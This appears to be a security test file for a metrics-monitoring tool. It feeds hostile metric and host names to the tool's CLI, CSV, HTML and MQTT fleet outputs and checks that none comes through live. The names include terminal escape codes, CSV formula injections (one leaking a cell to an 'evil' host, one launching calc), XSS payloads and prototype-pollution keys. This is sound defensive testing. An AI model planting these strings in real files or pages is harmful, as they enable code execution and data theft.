import { mkdirSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { setTimeout as sleep } from 'node:timers/promises';
import { connectAsync } from 'mqtt';
import { replaySchema } from '../../../collector/replay.ts';
import { runToEnd } from '../../../core/features.ts';
import { agentTopics } from '../../../core/protocol/topics.ts';
import { Random } from '../../../core/random.ts';
import { TRAINING_DEFAULTS, trainModel } from '../../../core/train.ts';
import { encodeModel } from '../../../models/artifact.ts';
import { runExecutable } from '../../support/executable.ts';
import { startMosquitto } from '../../support/mosquitto.ts';
import { type Struck, told } from './attack.ts';

/** Names of metrics and models that mean something to a terminal, a spreadsheet, a page, or who reads CSV. */
const HOSTILE = [
  '\u001b]0;owned\u0007',
  '\u001b[2J\u001b[31mroot#',
  '\u009b31m',
  'left\u202eright',
  '=HYPERLINK("http://evil/"&A1;"x")',
  "+cmd|' /C calc'!A0",
  '@SUM(1,1)',
  '-2+3',
  '<script>alert(1)</script>',
  '"><img src=x onerror=alert(1)>',
  '| a | [b](javascript:alert(1)) | `c`',
  'a,b"c',
  'two\r\nlines',
  '__proto__',
  'constructor',
] as const;

interface Shown {
  readonly what: string;
  readonly text: string;
  /** On standard error. */
  readonly said?: string;
  readonly kind: 'terminal' | 'csv' | 'html' | 'json';
}

/** What a terminal would obey: all control characters but the line's end, and those that turn the direction. */
// biome-ignore lint/suspicious/noControlCharactersInRegex: that is what is looked for
const OBEYED = /[\u0000-\u0009\u000b-\u001f\u007f-\u009f\u202a-\u202e\u2066-\u2069]/u;

function faultOf({ kind, text, said = '' }: Shown): string | null {
  if (text + said === '') return 'nothing was shown';
  if (OBEYED.test(said)) return 'a control character comes through on standard error';
  if (text === '') return null;
  if (kind === 'json') return jsonFault(text);
  const obeyed = OBEYED.exec(text);
  if (obeyed !== null) return `U+${(obeyed[0].codePointAt(0) ?? 0).toString(16)} comes through`;
  if (kind === 'html' && /<script>alert|<img src=x/i.test(text)) return 'markup comes through';
  return kind === 'csv' ? csvFault(text) : null;
}

function jsonFault(text: string): string | null {
  try {
    JSON.parse(text);
    return null;
  } catch {
    return 'it is no JSON';
  }
}

/** Every line has as many cells as the header (RFC 4180), and none is a formula. */
function csvFault(text: string): string | null {
  const rows = text
    .trimEnd()
    .split('\n')
    .map((line) => line.match(/("(?:[^"]|"")*"|[^,]*)(?:,|$)/g)?.map((cell) => cell.replace(/,$/, '')) ?? []);
  const width = rows[0]?.filter((cell, i, all) => cell !== '' || i < all.length - 1).length;
  for (const row of rows) {
    const cells = row.filter((cell, i, all) => cell !== '' || i < all.length - 1);
    if (cells.length !== width) return `a line of ${cells.length} cells under a header of ${width}`;
    const formula = cells.find((cell) => /^"?[=+@\t\r]/.test(cell) || /^"?-(?!\d)/.test(cell));
    if (formula !== undefined) return `a cell that is a formula: ${formula}`;
  }
  return null;
}

const isPrintable = (name: string): boolean => !/[\p{C}]/u.test(name);
const quoted = (name: string): string => `"${name.replaceAll('"', '""')}"`;

/** All that the executable shows of them, without and with an agent. */
export async function hostileNames(): Promise<Struck[]> {
  const work = mkdtempSync(join(tmpdir(), 'edgewood-names-'));
  try {
    const shown = [...(await ofModels(work)), ...(await ofAgent(work))];
    return shown.map((one) => {
      const fault = faultOf(one);
      const struck: Struck = {
        group: 'names',
        name: one.what,
        messages: HOSTILE.length,
        counted: {},
        unchanged: true,
        passed: fault === null,
        note: fault ?? `${one.text.length + (one.said ?? '').length} characters, as ${one.kind}`,
      };
      told(struck);
      if (fault !== null) console.log(`  ${one.what}: ${fault}`);
      return struck;
    });
  } finally {
    rmSync(work, { recursive: true, force: true });
  }
}

async function shown(what: string, kind: Shown['kind'], ...args: string[]): Promise<Shown> {
  const run = runExecutable(args);
  const code = await run.ended;
  if (code !== 0 && code !== 1 && kind !== 'terminal')
    throw new Error(`edgewood ${args[0]} ended with ${code}: ${run.stderr()}`);
  return { what, kind, text: run.stdout(), said: run.stderr() };
}

const ROWS = 900;
const START_MS = 1_700_000_000_000;

function columnsOf(count: number): Float64Array[] {
  const random = new Random(1);
  return Array.from({ length: count }, () =>
    Float64Array.from({ length: ROWS }, () => 20 + 5 * random.float()),
  );
}

async function ofModels(work: string): Promise<Shown[]> {
  // What a file's header can't hold, a model's schema can.
  const names = [...HOSTILE];
  const columns = columnsOf(names.length);
  const provenance = {
    ...{ name: HOSTILE.join(''), version: HOSTILE[0], seed: 1, rows: ROWS, intervalMs: 5000 },
    ...{
      trainedFromMs: START_MS,
      trainedToMs: START_MS + ROWS * 5000,
      dataSha256: '00',
      toolVersion: HOSTILE[1],
    },
  };
  const schema = replaySchema(names).map((metric) => ({
    ...metric,
    unit: 'value' as const,
    label: metric.name,
  }));
  const model = join(work, 'hostile.edgewood');
  writeFileSync(model, encodeModel(runToEnd(trainModel(schema, columns, provenance, TRAINING_DEFAULTS))));
  const inHeader = names.filter(isPrintable);
  const lines = Array.from({ length: ROWS }, (_, t) =>
    [new Date(START_MS + t * 5000).toISOString(), ...inHeader.map((_, i) => columns[i]?.[t])].join(','),
  );
  const file = join(work, 'rows.csv');
  writeFileSync(file, [['timestamp', ...inHeader.map(quoted)].join(','), ...lines, ''].join('\n'));
  const page = join(work, 'report.html');
  const drift = join(work, 'drift.html');
  const hostile = join(work, 'control.csv');
  writeFileSync(hostile, `timestamp,${quoted(HOSTILE[0])}\n${START_MS},1\n`);
  const results = [
    await shown('score of a header with control characters', 'terminal', 'score', model, hostile),
    await shown('score --explain', 'csv', 'score', model, file, '--explain'),
    await shown('validate', 'terminal', 'validate', file),
    await shown('validate --json', 'json', 'validate', file, '--json'),
    await shown('evaluate', 'terminal', 'evaluate', model, file, '--no-robustness', '--html', page),
    await shown('drift', 'terminal', 'drift', model, file, '--html', drift),
    await shown('models show', 'terminal', 'models', 'show', model),
    await shown('models diff', 'terminal', 'models', 'diff', model, model),
    await shown('models export', 'json', 'models', 'export', model),
  ];
  return [
    ...results,
    { what: 'evaluate --html', kind: 'html', text: readFileSync(page, 'utf8') },
    { what: 'drift --html', kind: 'html', text: readFileSync(drift, 'utf8') },
  ];
}

/** A host whose metrics are called so, with an alert on each. */
async function ofAgent(work: string): Promise<Shown[]> {
  const names = HOSTILE.filter(isPrintable);
  const state = join(work, 'state');
  mkdirSync(state);
  const random = new Random(2);
  const header = ['timestamp', ...names.map(quoted)].join(',');
  const row = (t: number, away: number): string =>
    [
      START_MS + t * 100,
      ...names.map((_, i) => (i === away ? 99 : i % 2 === 0 ? 0 : 20 + random.float())),
    ].join(',');
  const training = Array.from({ length: 600 }, (_, t) => row(t, -1));
  const live = Array.from({ length: 30_000 }, (_, t) =>
    row(600 + t, t % 100 < 4 ? Math.floor(t / 100) % names.length : -1),
  );
  writeFileSync(join(work, 'agent.csv'), [header, ...training, ...live.slice(0, 2000), ''].join('\n'));
  writeFileSync(join(work, 'live.csv'), [header, ...live.slice(2000), ''].join('\n'));
  const label = JSON.stringify(HOSTILE[4]);
  const mosquitto = await startMosquitto();
  const broker = `mqtt://127.0.0.1:${mosquitto.port}`;
  const hubDir = join(work, 'hub');
  const hub = runExecutable(['hub', '--broker', broker, '--site', 'default', '--state-dir', hubDir]);
  const sink = `sinks:\n  - {type: mqtt, url: "${broker}"}\n`;
  const config = (file: string, pace: string, more = ''): string => {
    const path = join(work, `${file}.yaml`);
    writeFileSync(
      path,
      `hostId: ${JSON.stringify('=1|<script>')}\ninterval: 100ms\nsource: "replay:${join(work, `${file}.csv`)}"\npace: ${pace}\nstateDir: ${state}\nlabels: {role: ${label}}\nlearning: {warmup: 50s, refit: "off"}\n${more}`,
    );
    return path;
  };
  const first = runExecutable(['agent', '--config', config('agent', 'max'), '--stdout']);
  const code = await first.ended;
  if (code !== 0) throw new Error(`the agent ended with ${code}: ${first.stderr()}`);
  const run = runExecutable(['agent', '--config', config('live', 'realtime', sink)]);
  try {
    await run.logged('mqtt.connected');
    const fleet = await ofFleet(broker, hubDir);
    const at = ['--state-dir', state];
    const alerts = await shown('alerts list --json', 'json', 'alerts', 'list', '--json', ...at);
    const [one] = JSON.parse(alerts.text) as { incidentId: string }[];
    return [
      { what: "the agent's log", kind: 'terminal', text: first.stderr() },
      alerts,
      await shown('status', 'terminal', 'status', ...at),
      await shown('status --json', 'json', 'status', '--json', ...at),
      await shown('alerts list', 'terminal', 'alerts', 'list', ...at),
      await shown('alerts show', 'terminal', 'alerts', 'show', one?.incidentId ?? '', ...at),
      ...fleet,
      { what: "the hub's log", kind: 'terminal', text: hub.stdout() + hub.stderr() },
    ];
  } finally {
    for (const { child, ended } of [run, hub]) {
      child.kill('SIGKILL');
      await ended;
    }
    await mosquitto.stop();
  }
}

/** What a hub knows of the host, and of one that lies about itself. */
async function ofFleet(broker: string, hubDir: string): Promise<Shown[]> {
  const liarId = '"><img src=x onerror=alert(1)>';
  const liar = agentTopics('default', liarId);
  const words = HOSTILE.join('');
  const client = await connectAsync(broker, { protocolVersion: 5 });
  try {
    const nothing = { rollout: null, desired: null, release: null, figures: null, alarms: null };
    const slots = { current: null, previous: null, central: null, centralPrevious: null };
    const running = { sha256: '0'.repeat(64), name: words, version: words, slot: 'current' };
    const about = {
      hostId: liarId,
      site: 'default',
      bootId: 'b',
      at: new Date().toISOString(),
      agentVersion: words,
    };
    const more = {
      labels: {},
      root: 1,
      state: 'rejected',
      running,
      slots,
      error: { code: words, message: words },
    };
    const document = { schemaVersion: 1, ...about, ...nothing, ...more, refused: { [words]: 1 } };
    const said = { ...document, hostId: 'x' };
    for (const payload of [JSON.stringify(document), JSON.stringify(said), words])
      await client.publishAsync(liar.reported, payload, { qos: 1, retain: true });
    await client.publishAsync(liar.alert('critical'), words, { qos: 1 });
    for (;;) {
      const all = await shown(
        'fleet status --json',
        'json',
        'fleet',
        'status',
        '--json',
        '--state-dir',
        hubDir,
      );
      const { hosts = [] } = all.text === '' ? {} : (JSON.parse(all.text) as { hosts?: unknown[] });
      const page = await shown(
        'fleet status --all',
        'terminal',
        'fleet',
        'status',
        '--all',
        '--state-dir',
        hubDir,
      );
      if (hosts.length >= 2) return [all, page];
      await sleep(200);
    }
  } finally {
    await client.endAsync(true);
  }
}
